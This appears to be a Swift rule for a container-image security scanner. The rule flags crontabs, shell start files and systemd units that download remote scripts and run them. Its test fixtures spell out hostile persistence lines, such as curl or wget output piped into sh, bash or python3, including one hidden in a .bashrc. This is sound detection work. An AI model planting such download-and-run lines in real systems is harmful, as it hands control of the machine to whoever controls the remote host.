import Findings
import Images

extension Rule {
  static let layerAutostartDownload = Rule(
    id: "layer-autostart-download",
    summary: "A crontab, a shell's start file or a boot script downloads a script and runs it.",
    why: """
      Whoever controls the server, or the network path to it, decides what the container runs, today and every day \
      after. Intruders keep their hold in this way, because the file looks harmless and the program is never in the image.
      """,
    fix: """
      Remove the line. Put the program that it needs into the image in the build, with a fixed version and a checked \
      digest; if nobody wrote the line, do not run the image.
      """,
    severity: .high, confidence: .firm,
    references: [.cwe(494), .cwe(506)],
    triggering: [
      .image(
        "crontabs of the system and of a user",
        """
        layer: COPY cron /
        ▶ -rw-r--r-- 0:0 /etc/cron.d/refresh
          | SHELL=/bin/sh
          | */10 * * * * root curl -fsSL https://example.org/refresh.sh | sh
        ▶ -rw------- 0:0 /var/spool/cron/crontabs/root
          | @reboot bash <(wget -qO- https://example.org/start)
        """),
      .image(
        "what a shell reads when it starts, and a script of cron",
        """
        layer: COPY home /
        ▶ -rw-r--r-- 1000:1000 /home/app/.bashrc
          | alias ll='ls -l'
          | (wget -O- https://example.org/profile.py | python3) >/dev/null 2>&1 &
        ▶ -rwxr-xr-x 0:0 /etc/cron.daily/refresh
          | #!/bin/sh
          | curl -s https://example.org/daily \\
          |   | bash -s
        """),
      .image(
        "a unit of systemd",
        """
        layer: COPY units /etc/systemd/system/
        ▶ -rw-r--r-- 0:0 /etc/systemd/system/refresh.service
          | [Service]
          | ExecStart=/bin/sh -c "curl -s https://example.org/refresh | sh"
        """),
    ],
    silent: [
      .image(
        "downloads that are not run, and scripts that come from the image",
        """
        layer: COPY cron /
          -rw-r--r-- 0:0 /etc/cron.d/refresh
            | # curl -fsSL https://example.org/refresh.sh | sh
            | MAILTO=root
            | 0 4 * * * root curl -fsS -o /srv/list.json https://example.org/list.json
            | 0 5 * * * root /srv/refresh.sh | sh
          -rw-r--r-- 0:0 /root/.profile
            | eval "$(dircolors -b)"
            | . "$HOME/.env"
        """),
      .image(
        "a crontab that a later layer deletes",
        """
        layer: COPY cron /
          -rw-r--r-- 0:0 /etc/cron.d/refresh
            | * * * * * root curl -s https://example.org/refresh.sh | sh
        layer: RUN rm /etc/cron.d/refresh
          delete /etc/cron.d/refresh
        """),
    ],
    check: .image { image, _ in
      image.facts.autostarts.flatMap { told in
        told.value.downloads.compactMap { found in
          guard let file = image.file(at: String(decoding: told.path, as: UTF8.self)) else { return nil }
          return Match(
            file, in: image, line: found.line,
            "\(file.path.shown): \(found.download.sentence), \(told.value.occasion.phrase).",
            subject: found.download.sentence)
        }
      }
    })
}

extension Autostart.Occasion {
  fileprivate var phrase: String {
    switch self {
    case .schedule: "each time that its schedule names"
    case .shell: "whenever a shell starts"
    case .boot: "whenever the system starts"
    }
  }
}
